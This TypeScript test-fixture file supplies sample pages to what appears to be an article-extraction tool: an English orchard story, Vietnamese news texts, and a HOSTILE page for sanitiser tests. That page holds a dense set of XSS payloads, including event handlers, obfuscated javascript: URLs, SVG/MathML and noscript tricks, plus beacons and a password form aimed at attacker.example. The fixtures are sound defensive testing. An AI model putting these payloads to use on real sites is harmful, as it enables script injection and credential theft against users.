/** The pages that the tests give to the site, written for them. */

export const ORCHARD_BODY = `<h1>The orchard that moved uphill</h1>
<p>When the third late frost in four years took the blossom, the growers of Hallbeck did what their grandparents had talked about and never dared. They dug up two hundred young apple trees and carried them a hundred metres up the slope.</p>
<p>Cold air runs downhill at night and gathers in the valley like water in a basin. A hundred metres higher the trees stand above it, and the difference on a clear April morning can be <strong>four degrees</strong>, which is all that a flower needs.</p>
<h2>What the thermometers said</h2>
<p>The school lent its weather station, and pupils read it before lessons for two springs. Their table hangs in the cider house, and the growers can recite it. You can read <a href="https://hallbeck.example/readings">every reading they took</a>.</p>
<figure><img src="https://images.hallbeck.example/slope.jpg" alt="Young apple trees in rows on a steep meadow"><figcaption>The new rows in their first May.</figcaption></figure>
<p>Nobody claims that the hill is a cure. The soil is thin, the road is steep, and the first full crop is two years away. But this year, for the first time since 2021, the blossom stayed on the branch.</p>`;

export const ORCHARD = `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>The orchard that moved uphill</title>
<meta name="author" content="Ruth Ackland"><meta property="article:published_time" content="2026-05-02T23:30:00-05:00">
<meta property="og:site_name" content="Hallbeck Courier"></head>
<body><nav><ul><li><a href="/">Home</a></li><li><a href="/sport">Sport results</a></li><li><a href="/shop">Souvenir shop</a></li></ul></nav>
<main><article>${ORCHARD_BODY}</article></main>
<footer><p>© 2026 Hallbeck Courier. <a href="/terms">Terms of use</a></p></footer></body></html>`;

/** A line of the article's text, and one of the page's furniture. */
export const ORCHARD_LINE = 'the blossom stayed on the branch';
export const ORCHARD_CHAFF = 'Souvenir shop';

export const VIETNAMESE_TEXT = `Trang chủ
Thời sự
Đăng nhập

Người thợ sửa đồng hồ ở góc phố Hàng Sơn
Chủ nhật, 8/2/2026, 09:15 (GMT+7)

Suốt ba mươi tám năm, ông Phạm Đức Long ngồi ở cùng một góc phố, sau cùng một tủ kính, và nghe tiếng tích tắc của những chiếc đồng hồ không phải của mình. Ông bảo mỗi chiếc có một giọng riêng, và khi giọng ấy lạc đi thì ông biết nó đau ở đâu.

Khách của ông bây giờ phần lớn là người trẻ. Họ mang đến những chiếc đồng hồ của ông bà để lại, loại phải lên dây mỗi sáng, và họ ngồi chờ chứ không hẹn ngày quay lại. Theo lời ông, một chiếc đồng hồ cơ sạch sẽ có thể chạy thêm ba mươi năm nữa.

Năm ngoái, ông bắt đầu dạy nghề miễn phí vào các tối thứ tư. Lớp học có sáu người, trong đó có một cô kỹ sư phần mềm và một bác sĩ đã về hưu. Bài học đầu tiên không phải là tháo máy mà là ngồi yên trong mười phút để lắng nghe.

Chia sẻ
Bình luận (3)
© 2026 Báo Góc Phố
`;

export const VIETNAMESE_TITLE = 'Người thợ sửa đồng hồ ở góc phố Hàng Sơn';
export const VIETNAMESE_LINE = 'ngồi yên trong mười phút để lắng nghe';

/** A paste with another article after the first. */
export const TWO_ARTICLES = `Xã Vĩnh Lạc mở lại chợ nổi sau mười năm

Sáng nay, ủy ban xã Vĩnh Lạc cho mở lại khu chợ nổi trên sông Cái sau mười năm ngừng họp, với hơn bốn mươi ghe hàng từ các xã lân cận về dự phiên đầu tiên.

Bà Đinh Thị Sen, người bán bún trên ghe từ năm mười sáu tuổi, nói bà đã thức từ hai giờ sáng để nấu nước dùng và đến sáu giờ thì nồi đã cạn.

Theo ủy ban xã, chợ sẽ họp vào thứ bảy và chủ nhật hằng tuần, từ năm giờ đến chín giờ sáng, và mỗi ghe phải có áo phao cho mọi người trên ghe.

Tin khác

Đội bóng chuyền nữ trường Hòa Bình vào chung kết

Chiều hôm qua, đội bóng chuyền nữ trường Hòa Bình thắng ba ván liền trước đội trường Tân Phú và giành quyền vào trận chung kết giải học sinh toàn tỉnh.

Huấn luyện viên Tô Minh Đạt cho biết các em tập luyện từ tháng sáu trên sân đất sau trường, vì nhà thi đấu của huyện đang được sửa mái.

Trận chung kết diễn ra lúc mười lăm giờ thứ sáu tuần tới, vé vào cửa miễn phí cho học sinh của cả hai trường.
`;

/** Tries everything that must not run or be loaded. Each attempt that succeeds would set window.attacked. */
export const HOSTILE = `<!doctype html><html><head><title>The quiet <img src=x onerror="window.attacked=1"> harbour</title>
<script>window.attacked = 1</script><base href="javascript:window.attacked=1//">
<meta http-equiv="refresh" content="0;url=https://attacker.example/"></head><body>
<article onclick="window.attacked=1"><h1>The quiet harbour</h1>
<p style="background:url(https://attacker.example/style)">The harbour at Selwick closes its gates at dusk, and for six hours nothing moves in it but the tide. The harbour master says that this is the only rule that has never been broken in her time.</p>
<p>Boats that come late wait outside the wall. <a href="javascript:window.attacked=1">Her list of them</a> goes back to 1958, and <a href=" java&#10;script:window.attacked=1">each name</a> stands beside an hour and a reason, most often the wind and sometimes a wedding.</p>
<svg onload="window.attacked=1"><script>window.attacked=1</script><a xlink:href="javascript:window.attacked=1"><text>drawn</text></a></svg>
<math><maction actiontype="statusline" xlink:href="javascript:window.attacked=1">sum</maction></math>
<iframe srcdoc="<script>parent.attacked=1</script>"></iframe><object data="https://attacker.example/object"></object>
<p>In winter the gates freeze now and then, <img src="https://attacker.example/pixel.gif" onerror="window.attacked=1" alt="A frozen gate"> and then the whole crew of the lifeboat comes down with kettles. It takes about forty of them, and nobody has ever written that number on the wall.</p>
<form action="https://attacker.example/form"><input name="password" autofocus onfocus="window.attacked=1"><button>Continue</button></form>
<noscript><p title="</noscript><img src=x onerror=window.attacked=1>">The gate keeper's daughter has asked for a bell instead, because a bell can be heard in fog and a lamp cannot be seen in it.</p></noscript>
<template><img src=x onerror="window.attacked=1"></template><p>&lt;img src=x onerror=window.attacked=1&gt; is what the old sign would say if it were a page, and the harbour master would have it painted over before the next tide.</p>
</article></body></html>`;
